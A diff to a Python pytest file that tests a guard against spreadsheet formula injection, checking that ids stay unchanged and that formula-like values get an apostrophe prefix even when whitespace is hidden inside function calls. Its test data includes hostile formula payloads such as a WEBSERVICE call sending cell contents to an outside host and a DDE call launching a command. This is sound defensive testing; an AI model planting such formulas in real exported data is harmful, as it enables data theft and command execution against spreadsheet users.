@@ -99,10 +99,41 @@ def test_plain_text_and_lists_stay_as_they_are(cell: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "name", ["-abc_1", "-", "--x", "-1-1", "@user", "+49 170 123", "=a", "=1+1", "a;-b", "＝a", "-TEG1_R2", "-a-"]
+    "name",
+    [
+        *("-abc_1", "-", "--x", "-1-1", "@user", "+49 170 123", "=a", "=1+1", "a;-b", "＝a", "-TEG1_R2", "-a-"),
+        *("-Smith (Jr)", "@user (an admin)", "+49 (0) 170 123", "+1 (555) 123-4567", "-Report (May, 2026)", "-a\n(b)"),
+        *("-5", "-1.5e3", "-1,000", "- 5", "=1 (2)"),
+    ],
 )
 def test_an_id_or_a_key_is_never_changed(name: str) -> None:
     assert guarded_id(name) == name
+
+
+@pytest.mark.parametrize(
+    "blank", [" ", "\n", "\r\n", "\t", "  \n ", "\xa0", "\u200b", "\u2028", " " * 50_000, "\n" * 50_000]
+)
+@pytest.mark.parametrize(
+    "call",
+    [
+        *(
+            '=WEBSERVICE{}("http://e/?"&A1)',
+            '=DDE{}("cmd";"/C calc")',
+            "-WEBSERVICE{}(A1)",
+            "@SUM{}(A1:A9)",
+            "=LOG10{}(B2)",
+        ),
+        *('=1+{}WEBSERVICE("http://e/")', '-{}DDE("cmd","/C calc")', '+A1*{}f{}("x")', "=f{}()"),
+    ],
+)
+def test_a_call_is_one_with_blanks_and_line_breaks_in_it_too(call: str, blank: str) -> None:
+    formula = call.replace("{}", blank)
+    assert guarded_id(formula) == "'" + formula
+
+
+@pytest.mark.parametrize("text", ["Pros:\n- cheap (50 %)\n(see [1])", "a\n- b (A1)"])
+def test_the_bullets_of_a_list_may_have_parentheses(text: str) -> None:
+    assert guarded(text) == text
 
 
 @pytest.mark.parametrize(
